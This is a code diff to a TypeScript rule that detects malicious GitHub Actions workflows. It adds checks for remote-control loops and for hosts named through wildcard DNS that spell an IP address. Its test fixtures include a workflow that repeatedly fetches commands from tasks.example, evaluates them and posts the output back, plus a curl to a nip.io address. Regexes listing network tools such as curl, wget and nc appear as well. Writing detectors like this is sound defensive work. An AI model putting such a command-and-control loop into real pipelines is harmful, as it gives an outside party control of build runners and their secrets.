@@ -1,7 +1,9 @@
 import { transmissionsOf } from '#lib/analysis/dataflow/secret-flow.ts';
+import { hostOf, remoteCodeOf } from '#lib/analysis/inventory/downloads.ts';
 import { runnerKind } from '#lib/analysis/privileges/runners.ts';
 import { inputOf, runsAction } from '#lib/workflow/model/action-uses.ts';
 import { type Definition, type Job, jobOf, type Step, stepsOf, type Text } from '#lib/workflow/model/model.ts';
+import { commandsOf } from '#lib/workflow/shell/shell.ts';
 import { textsBelow } from '#lib/workflow/yaml/texts.ts';
 import { defineRule, type Report, yaml } from '../engine/rule.ts';
 
@@ -145,8 +147,52 @@ export const maliciousWorkflowIndicator = defineRule({
                 - run: gh repo edit acme/app --visibility public
         `,
       },
+      {
+        yaml: yaml`
+          on: push
+          jobs:
+            wait:
+              runs-on: ubuntu-latest
+              steps:
+                # expect: certain
+                - run: |
+                    while true; do
+                      order=$(curl -sf https://tasks.example/next)
+                      result=$(eval "$order" 2>&1)
+                      curl -s -d "$result" https://tasks.example/done
+                      sleep 5
+                    done
+        `,
+      },
+      {
+        yaml: yaml`
+          on: push
+          jobs:
+            send:
+              runs-on: ubuntu-latest
+              steps:
+                # expect: certain
+                - run: curl -s https://app.203-0-113-7.nip.io/install
+        `,
+      },
     ],
     good: [
+      {
+        yaml: yaml`
+          on: push
+          jobs:
+            test:
+              runs-on: ubuntu-latest
+              steps:
+                - run: |
+                    until curl -sf http://app.127.0.0.1.nip.io/health; do sleep 1; done
+                    curl -s http://10-1-2-3.sslip.io/
+                - run: |
+                    for each in 1 2 3; do
+                      curl -s -d "$each" https://status.example/report
+                    done
+        `,
+      },
       {
         yaml: yaml`
           on: push
@@ -280,6 +326,8 @@ function certainSign(script: string, step: Step, namesAll: boolean): string | un
       if (found !== undefined) return found[0];
     }
   }
+  const planted = takesOrders(step) ?? spelledAddress(text);
+  if (planted !== undefined) return planted;
   if (/Runner\.Worker/.test(text) && /\/proc\/[^\s/]{1,40}\/(?:mem|maps)\b|\bgcore\b|procdump/.test(text)) {
     return 'reads secrets from the memory of the runner process';
   }
@@ -287,6 +335,48 @@ function certainSign(script: string, step: Step, namesAll: boolean): string | un
     (namesAll ? secretsTaken(text, step) : undefined) ??
     (runsDiscussion(text, step) ? 'executes the text of a discussion on a self-hosted runner' : undefined)
   );
+}
+
+const LOOPS = /(?:^|[\s;])(?:while|until)\s|(?:^|[\s;])for\s*\(\(\s*;/;
+const SENDS = /^(?:-d|-F|-T|--data(?:-\w+)?|--form|--upload-file|--json|--post-data|--post-file)(?:=|$)/;
+
+/** A loop that asks a host, evaluates the answer and sends something back is remote control. */
+function takesOrders(step: Step): string | undefined {
+  if (!LOOPS.test(step.run?.value ?? '')) return undefined;
+  const orders = remoteCodeOf(step).filter(({ kind }) => kind === 'evaluated' || kind === 'piped');
+  if (orders.length === 0) return undefined;
+  const sends = commandsOf(step).some(
+    ({ program, args, text }) =>
+      (program === 'curl' || program === 'wget') &&
+      args.some(({ value }) => SENDS.test(value)) &&
+      orders.some(({ url }) => url !== undefined && text.includes(originOf(url))),
+  );
+  return sends ? 'runs what a host answers in a loop, and sends the results back to it' : undefined;
+}
+
+function originOf(url: string): string {
+  return hostOf(url) ?? /^(?:[a-z]{1,10}:\/\/)?[^/]*/i.exec(url)?.[0] ?? url;
+}
+
+const SPELLED = /\b(\d{1,3})[.-](\d{1,3})[.-](\d{1,3})[.-](\d{1,3})\.(?:nip|sslip|xip|traefik)\.(?:io|me)\b/g;
+const CONTACTS = /\b(?:curl|wget|nc|ncat|fetch|axios|https?\.request|invoke-webrequest|invoke-restmethod|irm|iwr)\b/i;
+
+/** Wildcard DNS turns an IP address into a name that filters let through; tests use it for addresses of their own. */
+function spelledAddress(text: string): string | undefined {
+  if (!CONTACTS.test(text)) return undefined;
+  for (const [, a, b] of text.matchAll(SPELLED)) {
+    const [first, second] = [Number(a), Number(b)];
+    const own =
+      first === 10 ||
+      first === 127 ||
+      first === 0 ||
+      (first === 192 && second === 168) ||
+      (first === 172 && second >= 16 && second <= 31) ||
+      (first === 169 && second === 254) ||
+      (first === 100 && second >= 64 && second <= 127);
+    if (!own) return 'contacts a host whose name spells an IP address through a wildcard DNS service';
+  }
+  return undefined;
 }
 
 const ALL_SECRETS = /\btojson\(\s*secrets\s*\)/i;
